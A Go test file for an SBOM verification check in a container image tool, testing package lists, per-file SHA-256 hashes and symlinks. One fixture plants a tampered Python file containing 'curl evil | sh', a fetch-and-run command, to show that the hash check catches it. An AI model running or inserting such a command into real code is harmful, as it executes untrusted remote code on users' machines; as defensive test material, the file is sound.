package verify

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/imagebuild/imagebuild/internal/testenv"
	"github.com/imagebuild/imagebuild/sbom"
)

// TestSBOMCheck checks the SBOM check against an image with two Debian
// packages and one distribution in the venv: a document made from the
// image passes; one made before a package was added to the image, or after
// one was removed, fails naming the package; an image with no document
// skips the check.
func TestSBOMCheck(t *testing.T) {
	status := func(pkgs ...string) string {
		var b strings.Builder
		for _, p := range pkgs {
			b.WriteString("Package: " + p + "\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0-1\n\n")
		}
		return b.String()
	}
	osRelease := "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"
	site := "opt/venv/lib/python3.11/site-packages/"
	dist := map[string]string{
		site + "probe-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: probe\nVersion: 1.0\n",
		site + "probe-1.0.dist-info/RECORD":   "probe/__init__.py,,\nprobe-1.0.dist-info/METADATA,,\nprobe-1.0.dist-info/RECORD,,\n",
		site + "probe/__init__.py":            "VALUE = 1\n",
	}
	// doc is the SBOM of a filesystem with the Debian packages pkgs and
	// the venv.
	doc := func(pkgs ...string) []byte {
		m := fstest.MapFS{
			"etc/os-release":      {Data: []byte(osRelease)},
			"var/lib/dpkg/status": {Data: []byte(status(pkgs...))},
		}
		for p, body := range dist {
			m[p] = &fstest.MapFile{Data: []byte(body)}
		}
		inv, err := sbom.Catalog(m)
		if err != nil {
			t.Fatal(err)
		}
		dt, err := sbom.SPDX(m, inv, sbom.Subject{Name: "test", Platform: "linux/amd64", Base: "example.com/base@sha256:" + strings.Repeat("a", 64), Created: time.Unix(0, 0)})
		if err != nil {
			t.Fatal(err)
		}
		return dt
	}
	files := []file{
		{Path: "/etc/os-release", Body: []byte(osRelease)},
		{Path: "/var", Dir: true}, {Path: "/var/lib", Dir: true}, {Path: "/var/lib/dpkg", Dir: true},
		{Path: "/var/lib/dpkg/status", Body: []byte(status("libc6", "zlib1g"))},
	}
	for p, body := range dist {
		files = append(files, file{Path: "/" + p, Body: []byte(body), UID: 1000, GID: 1000})
	}
	img := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, files...))
	check := func(doc []byte) Result {
		t.Helper()
		r, err := Image(context.Background(), img, Options{SBOM: doc})
		if err != nil {
			t.Fatal(err)
		}
		return result(r, "SBOM")
	}

	if res := check(doc("libc6", "zlib1g")); res.Status != Pass {
		t.Errorf("the image's own SBOM: %s %v, want pass", res.Status, res.Evidence)
	} else if !strings.Contains(strings.Join(res.Evidence, "\n"), "3 packages") {
		t.Errorf("evidence %q does not count the 3 packages", res.Evidence)
	}
	res := check(doc("libc6"))
	if res.Status != Fail || !slices.ContainsFunc(res.Evidence, func(e string) bool { return strings.Contains(e, "not in the SBOM") && strings.Contains(e, "zlib1g") }) {
		t.Errorf("an SBOM without zlib1g: %s %v, want fail naming zlib1g as not in the SBOM", res.Status, res.Evidence)
	}
	res = check(doc("libc6", "zlib1g", "openssl"))
	if res.Status != Fail || !slices.ContainsFunc(res.Evidence, func(e string) bool { return strings.Contains(e, "not in the image") && strings.Contains(e, "openssl") }) {
		t.Errorf("an SBOM with openssl too: %s %v, want fail naming openssl as not in the image", res.Status, res.Evidence)
	}
	if res := check(nil); res.Status != Skip {
		t.Errorf("no SBOM: %s, want skip", res.Status)
	}
	if res := check([]byte("{not json")); res.Status != Fail {
		t.Errorf("an unreadable SBOM: %s, want fail", res.Status)
	}
}

// TestSBOMFileHashes: the SBOM check compares the SHA-256 the document
// gives each file with the file's in the image. A document whose names and
// versions are right but one of whose files' SHA-256 is not fails, naming
// the file and both hashes; so does one that leaves a file out, or lists
// one the image does not hold. A listed file that is a link in the image
// is hashed through it.
func TestSBOMFileHashes(t *testing.T) {
	site := "opt/venv/lib/python3.11/site-packages/"
	record := "probe/__init__.py,,\nprobe/data.txt,,\nprobe-1.0.dist-info/METADATA,,\nprobe-1.0.dist-info/RECORD,,\n"
	dist := map[string]string{
		site + "probe-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: probe\nVersion: 1.0\n",
		site + "probe-1.0.dist-info/RECORD":   record,
		site + "probe/__init__.py":            "VALUE = 1\n",
		site + "probe/data.txt":               "data\n",
	}
	m := fstest.MapFS{"etc/os-release": {Data: []byte("ID=debian\nVERSION_ID=\"12\"\n")}}
	for p, body := range dist {
		m[p] = &fstest.MapFile{Data: []byte(body)}
	}
	inv, err := sbom.Catalog(m)
	if err != nil {
		t.Fatal(err)
	}
	good, err := sbom.SPDX(m, inv, sbom.Subject{Name: "test", Platform: "linux/amd64", Created: time.Unix(0, 0)})
	if err != nil {
		t.Fatal(err)
	}
	init := "/" + site + "probe/__init__.py"
	sum := sha256.Sum256([]byte(dist[site+"probe/__init__.py"]))
	real := hex.EncodeToString(sum[:])
	// edit changes the document as JSON.
	edit := func(change func(doc map[string]any)) []byte {
		var doc map[string]any
		if err := json.Unmarshal(good, &doc); err != nil {
			t.Fatal(err)
		}
		change(doc)
		dt, err := json.Marshal(doc)
		if err != nil {
			t.Fatal(err)
		}
		return dt
	}
	files := func(doc map[string]any) []any { return doc["files"].([]any) }
	wrongHash := edit(func(doc map[string]any) {
		for _, f := range files(doc) {
			f := f.(map[string]any)
			if f["fileName"] != init {
				continue
			}
			for _, c := range f["checksums"].([]any) {
				if c := c.(map[string]any); c["algorithm"] == "SHA256" {
					c["checksumValue"] = strings.Repeat("0", 64)
				}
			}
		}
	})
	rename := func(from, to string) []byte {
		return edit(func(doc map[string]any) {
			for _, f := range files(doc) {
				if f := f.(map[string]any); f["fileName"] == from {
					f["fileName"] = to
				}
			}
		})
	}

	var entries []file
	for p, body := range dist {
		entries = append(entries, file{Path: "/" + p, Body: []byte(body), UID: 1000, GID: 1000})
	}
	img := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, entries...))
	// In this image probe/data.txt is a link to a file the SBOM does not list.
	linked := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, entries...), testenv.Layer(t,
		file{Path: "/opt/venv/share", Dir: true, UID: 1000, GID: 1000},
		file{Path: "/opt/venv/share/data.txt", Body: []byte("data\n"), UID: 1000, GID: 1000},
		file{Path: "/" + site + "probe/data.txt", Link: "../../../../share/data.txt", UID: 1000, GID: 1000}))
	// In this image __init__.py is not what the SBOM was made from.
	changed := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, entries...), testenv.Layer(t,
		file{Path: init, Body: []byte("import os; os.system('curl evil | sh')\n"), UID: 1000, GID: 1000}))

	for _, tc := range []struct {
		name     string
		img      v1.Image
		doc      []byte
		evidence []string // nil: pass
	}{
		{"the image's own SBOM", img, good, nil},
		{"a file through a link", linked, good, nil},
		{"a wrong SHA-256", img, wrongHash, []string{init, strings.Repeat("0", 64), real}},
		{"a changed file", changed, good, []string{init, real}},
		{"a file left out", img, rename(init, "/"+site+"probe/other.py"), []string{"in the image, not in the SBOM: file " + init, "in the SBOM, not in the image: file /" + site + "probe/other.py"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Image(context.Background(), tc.img, Options{SBOM: tc.doc})
			if err != nil {
				t.Fatal(err)
			}
			res := result(r, "SBOM")
			ev := strings.Join(res.Evidence, "\n")
			if tc.evidence == nil {
				if res.Status != Pass || !strings.Contains(ev, "4 files") {
					t.Errorf("SBOM check: %s %q, want pass counting 4 files", res.Status, res.Evidence)
				}
				return
			}
			if res.Status != Fail {
				t.Errorf("SBOM check: %s %q, want fail", res.Status, res.Evidence)
			}
			for _, w := range tc.evidence {
				if !strings.Contains(ev, w) {
					t.Errorf("evidence %q does not say %q", res.Evidence, w)
				}
			}
		})
	}
}
